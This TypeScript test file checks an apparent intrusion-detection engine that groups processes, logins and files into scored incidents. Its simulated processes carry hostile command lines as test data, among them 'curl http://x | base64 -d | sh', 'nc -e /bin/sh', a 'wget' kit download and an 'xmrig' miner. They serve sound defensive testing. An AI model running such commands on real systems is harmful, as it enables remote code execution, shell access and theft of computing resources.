import assert from 'node:assert/strict'
import { test } from 'node:test'

import type { ProcessInfo } from '../model/index.ts'
import {
  assertSound,
  cron,
  idOf,
  ids,
  init,
  program,
  Scene,
  shell,
  sshd,
  suspicious,
  texts,
  tool,
} from './story-under-test.ts'

const service = program({
  pid: 70,
  name: 'backupd',
  executable: '/usr/sbin/backupd',
  args: ['/usr/sbin/backupd'],
  parent: init,
  user: 'root',
})

function login(
  scene: Scene,
  address: string,
  { daemon, user }: { readonly daemon: ProcessInfo; readonly user: string },
): void {
  scene.send({
    event: {
      dataset: 'hx.login',
      category: ['authentication', 'session'],
      action: 'logon',
      outcome: 'success',
      severity: 20,
    },
    process: daemon,
    user: { name: user },
    source: { ip: address, port: 50_000 },
    hx: { login: { method: 'password', session: '7' } },
  })
}

test('without a detection there is no incident, and one below 20 opens none', () => {
  const scene = new Scene()
  scene.exec(tool(10, 'ls -l', service))
  scene.exec(tool(11, 'whoami', service), { rule: 'whoami', severity: 19 })
  assert.deepEqual(scene.changed(), [])
})

test('one detection never scores above its own severity, and the same rule counts once', () => {
  for (const [severity, level] of [
    [20, 'low'],
    [39, 'low'],
    [40, 'medium'],
    [64, 'medium'],
    [65, 'high'],
    [84, 'high'],
    [85, 'critical'],
  ] as const) {
    const scene = new Scene()
    for (let pid = 10; pid < 15; pid++) scene.exec(tool(pid, `x ${pid}`, service), { rule: 'r', severity })
    for (const incident of scene.changed()) {
      assert.equal(incident.score, severity)
      assert.equal(incident.level, level)
    }
  }
})

test('many low rules stay low, further tactics raise', () => {
  const scene = new Scene()
  const actor = tool(10, 'x', service)
  scene.exec(actor)
  for (let at = 0; at < 12; at++)
    scene.send({ event: { action: 'setuid' }, process: actor }, [{ rule: `low-${at}`, severity: 30 }])
  assert.equal(scene.one().level, 'low')
  scene.send({ event: { action: 'setgid' }, process: actor }, [
    { rule: 'm1', severity: 60, techniques: ['T1059'] },
    { rule: 'm2', severity: 60, techniques: ['T1059'] },
  ])
  assert.equal(scene.one().level, 'medium')
  scene.send({ event: { action: 'setgid' }, process: actor }, [
    { rule: 'm3', severity: 60, techniques: ['T1070', 'T1003'] },
  ])
  assert.equal(scene.one().level, 'high')
})

test('what a package manager does weighs less, and its many files are not remembered', () => {
  const scene = new Scene()
  const apt = program({
    pid: 20,
    name: 'apt-get',
    executable: '/usr/bin/apt-get',
    args: ['apt-get', 'install', 'x'],
    parent: service,
    user: 'root',
  })
  const dpkg = program({
    pid: 21,
    name: 'dpkg',
    executable: '/usr/bin/dpkg',
    args: ['dpkg', '-i', 'x'],
    parent: apt,
    user: 'root',
  })
  const script = tool(22, 'chmod 4755 /usr/bin/x', dpkg, 'root')
  scene.exec(apt)
  scene.exec(dpkg)
  scene.file('create', '/usr/bin/x', dpkg)
  scene.exec(script, suspicious)
  const incident = scene.one()
  assert.equal(incident.level, 'low')
  assert.equal(incident.score, 24)
  assert.equal(
    incident.nodes.some(({ kind }) => kind === 'file'),
    false,
  )
})

test('descendants join, also through a fork that is told at its end only; siblings and the parent do not', () => {
  const scene = new Scene()
  const parent = tool(10, 'job runner', service)
  const bad = tool(11, 'bad', parent)
  const fork = tool(12, 'bad', bad)
  const grandchild = tool(13, 'curl http://x', fork)
  const sibling = tool(14, 'good', parent)
  scene.exec(parent)
  scene.exec(bad, suspicious)
  scene.at(10).exec(grandchild)
  scene.at(11).exec(sibling)
  assert.equal(ids(scene.one(), 'member').has(idOf(grandchild)), false)
  scene.at(20).exit(fork)
  const incident = scene.one()
  assertSound(incident)
  const members = ids(incident, 'member')
  assert.deepEqual(members, new Set([bad, fork, grandchild].map(idOf)))
  assert.deepEqual(ids(incident, 'context'), new Set([parent, service].map(idOf)))
  assert.deepEqual(texts(incident), ['job started bad (pid 11)', 'bad started curl http://x (pid 13)'])
})

test('a pid that was given again is another process', () => {
  const scene = new Scene()
  const bad = tool(11, 'bad', service)
  scene.exec(bad, suspicious)
  scene.exit(bad)
  const again = program({
    pid: 11,
    name: 'bad',
    executable: '/usr/bin/bad',
    args: ['bad'],
    parent: service,
    start: 999,
  })
  scene.at(1000).exec(again)
  scene.at(1001).exec(tool(12, 'child of the other', again))
  const incident = scene.one()
  assert.deepEqual(ids(incident, 'member'), new Set([idOf(bad)]))
})

test('a shell of one command line is one actor; a service and a job runner are not', () => {
  const scene = new Scene()
  const line = shell(10, 'curl http://x | base64 -d | sh', service)
  const curl = tool(11, 'curl http://x', line)
  const decoder = tool(12, 'base64 -d', line)
  for (const one of [line, curl, decoder]) scene.exec(one, ...(one === decoder ? [suspicious] : []))
  scene.exec(tool(13, 'rsync', service))
  assert.deepEqual(ids(scene.one(), 'member'), new Set([line, curl, decoder].map(idOf)))
})

test('a detection in a login session makes it one actor, with its address and earlier commands; a low one does not', () => {
  for (const severity of [30, 60]) {
    const scene = new Scene()
    const daemon = program({
      pid: 81,
      name: 'sshd',
      executable: '/usr/sbin/sshd',
      args: ['sshd: eve'],
      parent: sshd,
      user: 'root',
    })
    const bash = program({
      pid: 82,
      name: 'bash',
      executable: '/usr/bin/bash',
      args: ['-bash'],
      parent: daemon,
      user: 'eve',
    })
    const bob = program({
      pid: 83,
      name: 'bash',
      executable: '/usr/bin/bash',
      args: ['-bash'],
      parent: program({
        pid: 84,
        name: 'sshd',
        executable: '/usr/sbin/sshd',
        args: ['sshd: bob'],
        parent: sshd,
      }),
      user: 'bob',
    })
    scene.at(0).exec(bash)
    scene.at(10).exec(bob)
    login(scene.at(20), '198.51.100.7', { daemon, user: 'eve' })
    scene.at(1000).exec(tool(85, 'wget http://x/kit', bash, 'eve'))
    const bobs = tool(86, 'make', bob, 'bob')
    scene.at(1500).exec(bobs)
    scene.at(2000).exec(tool(87, 'nc -e /bin/sh', bash, 'eve'), { ...suspicious, severity })
    const incident = scene.one()
    assertSound(incident)
    const isWhole = severity === 60
    assert.equal(ids(incident, 'member').has('session:7'), isWhole)
    assert.equal(
      texts(incident).some((text) => text.includes('wget')),
      isWhole,
    )
    assert.equal(incident.addresses.includes('198.51.100.7'), isWhole)
    assert.equal(
      incident.suggestions.some(({ action, target }) => action === 'disable-account' && target === 'eve'),
      isWhole,
    )
    assert.equal(
      incident.nodes.some(({ id }) => id === idOf(bob) || id === idOf(bobs)),
      false,
    )
  }
})

test('on Windows a process belongs to the logon that it runs in, when that came from another host', () => {
  for (const ip of ['198.51.100.7', undefined]) {
    const scene = new Scene()
    scene.at(0).send({
      event: { dataset: 'hx.login', category: ['authentication'], action: 'logon', outcome: 'success' },
      user: { name: 'eve' },
      ...(ip === undefined ? {} : { source: { ip } }),
      hx: { login: { method: 'network', session: '0x5f2b' } },
    })
    const exec = (process: ProcessInfo, found: readonly (typeof suspicious)[] = []): void => {
      scene.at(process.pid).send(
        {
          event: { dataset: 'hx.process', category: ['process'], action: 'exec' },
          process,
          user: { name: 'eve' },
          hx: { process: { logon_id: '0x5f2b' } },
        },
        found,
      )
    }
    const windows = (pid: number, name: string, parent?: ProcessInfo): ProcessInfo => ({
      pid,
      name,
      executable: `C:\\Windows\\System32\\${name}`,
      command_line: name,
      ...(parent === undefined ? {} : { parent }),
    })
    const first = windows(800, 'cmd.exe', windows(700, 'wmiprvse.exe'))
    exec(first)
    exec(windows(801, 'rundll32.exe', first), [suspicious])
    const incident = scene.one()
    assertSound(incident)
    const isRemote = ip !== undefined
    assert.equal(ids(incident, 'member').has('session:0x5f2b'), isRemote)
    assert.deepEqual(incident.addresses, isRemote ? [ip] : [])
    const opened = incident.links.filter(({ kind, from }) => kind === 'opened' && from === 'session:0x5f2b')
    // Only the first process of the logon: the others come of it.
    assert.equal(opened.length, isRemote ? 1 : 0)
  }
})

test('guessing that got in joins the session; another address that only failed does not', () => {
  const scene = new Scene()
  const fail = (ip: string, found: boolean): void => {
    scene.send(
      {
        event: {
          dataset: 'hx.login',
          category: ['authentication'],
          action: 'logon-failed',
          outcome: 'failure',
          severity: 30,
        },
        source: { ip },
        user: { name: 'root' },
      },
      found ? [{ rule: 'brute-force', severity: 50, techniques: ['T1110'] }] : [],
    )
  }
  for (let at = 0; at < 8; at++) fail('198.51.100.7', at === 7)
  fail('198.51.100.8', false)
  const guessing = scene.one()
  assert.equal(guessing.level, 'low')
  const daemon = program({
    pid: 81,
    name: 'sshd',
    executable: '/usr/sbin/sshd',
    args: ['sshd: root'],
    parent: sshd,
    user: 'root',
  })
  const bash = program({
    pid: 82,
    name: 'bash',
    executable: '/usr/bin/bash',
    args: ['-bash'],
    parent: daemon,
    user: 'root',
  })
  login(scene.at(5000), '198.51.100.7', { daemon, user: 'root' })
  scene.at(5100).exec(bash)
  scene.at(6000).exec(tool(88, 'xmrig', bash, 'root'), { rule: 'miner', severity: 70, techniques: ['T1496'] })
  const incident = scene.one()
  assertSound(incident)
  assert.equal(incident.id, guessing.id)
  assert.deepEqual(incident.addresses, ['198.51.100.7'])
  assert.equal(incident.steps[0]?.count, 7)
})

test('what a member wrote is a member wherever it is run later, a file of that name elsewhere is not', () => {
  const scene = new Scene()
  const bad = tool(11, 'bad', service)
  scene.exec(bad, suspicious)
  scene.at(10).file('create', '/opt/app/run.sh', bad)
  scene.at(11).file('create', '/home/u/tool', bad)
  const early = tool(19, '/home/u/tool', service)
  const script = program({
    pid: 12,
    name: 'run.sh',
    executable: '/usr/bin/dash',
    args: ['/bin/sh', '/opt/app/run.sh'],
    parent: cron,
    user: 'root',
  })
  const direct = tool(13, '/home/u/tool', service)
  const other = tool(14, '/home/v/tool', service)
  const relative = {
    ...program({
      pid: 15,
      name: 'bash',
      executable: '/usr/bin/bash',
      args: ['bash', './run.sh'],
      parent: init,
    }),
    working_directory: '/opt/app',
  }
  const elsewhere = {
    ...program({
      pid: 16,
      name: 'bash',
      executable: '/usr/bin/bash',
      args: ['bash', './run.sh'],
      parent: init,
    }),
    working_directory: '/opt/other',
  }
  for (const one of [script, direct, other, relative, elsewhere]) scene.at(5000).exec(one)
  scene.at(-60_000).exec(early)
  const members = ids(scene.one(), 'member')
  assert.deepEqual(
    [script, direct, relative, other, elsewhere, early].map((one) => members.has(idOf(one))),
    [true, true, true, false, false, false],
  )
})

test('who merely deletes, reads or replaces a member’s file does not join, and the new file is another', () => {
  const scene = new Scene()
  const bad = tool(11, 'bad', service)
  const admin = tool(12, 'rm /home/u/tool', service)
  scene.exec(bad, suspicious)
  scene.at(10).file('create', '/home/u/tool', bad, { inode: '1' })
  scene.at(20).file('delete', '/home/u/tool', admin, { inode: '1' })
  const builder = tool(13, 'ld -o tool', service)
  scene.at(30).file('create', '/home/u/tool', builder, { inode: '2' })
  scene.at(40).exec(tool(14, '/home/u/tool', service))
  const incident = scene.one()
  assert.deepEqual(ids(incident, 'member'), new Set([idOf(bad), 'file:/home/u/tool']))
  assert.deepEqual(texts(incident).at(-1), 'rm deleted /home/u/tool')
})

test('places that many share never link: a log, /tmp itself, the account files', () => {
  const scene = new Scene()
  const bad = tool(11, 'bad', service)
  const good = tool(12, 'good', service)
  scene.exec(bad, suspicious)
  for (const path of [
    '/var/log/syslog',
    '/dev/null',
    '/tmp',
    '/etc/passwd',
    '/etc/ld.so.cache',
    '/home/u/.bash_history',
  ]) {
    scene.at(10).file('write', path, bad)
    scene.at(20).file('write', path, good, { kind: 'alert', severity: 50 })
  }
  const [first, ...others] = scene.changed()
  assert.ok(first !== undefined)
  assert.equal(
    first.nodes.some(({ id }) => id === idOf(good)),
    false,
  )
  assert.equal(others.length, 1)
})

test('a late fact joins what was before it, with its steps in their place', () => {
  const scene = new Scene()
  const dropper = tool(11, 'fetch', service)
  scene.at(1000).exec(dropper)
  scene.at(1100).file('create', '/var/tmp/kit', dropper)
  scene.at(1200).exec(tool(12, 'tar x', dropper))
  scene.at(9000).exec(tool(13, '/var/tmp/kit', cron, 'root'), suspicious)
  const first = scene.one()
  assert.equal(ids(first, 'member').has(idOf(dropper)), false)
  assert.equal(ids(first, 'context').has(idOf(dropper)), true)
  scene.at(9500).send({ event: { action: 'ptrace-attach', kind: 'alert', severity: 60 }, process: dropper })
  const incident = scene.changed().find(({ status }) => status === 'open')
  assert.ok(incident !== undefined)
  assertSound(incident)
  assert.deepEqual(texts(incident).slice(0, 4), [
    'backupd started fetch (pid 11)',
    'fetch wrote /var/tmp/kit',
    'fetch started tar x (pid 12)',
    'cron started /var/tmp/kit (pid 13)',
  ])
})
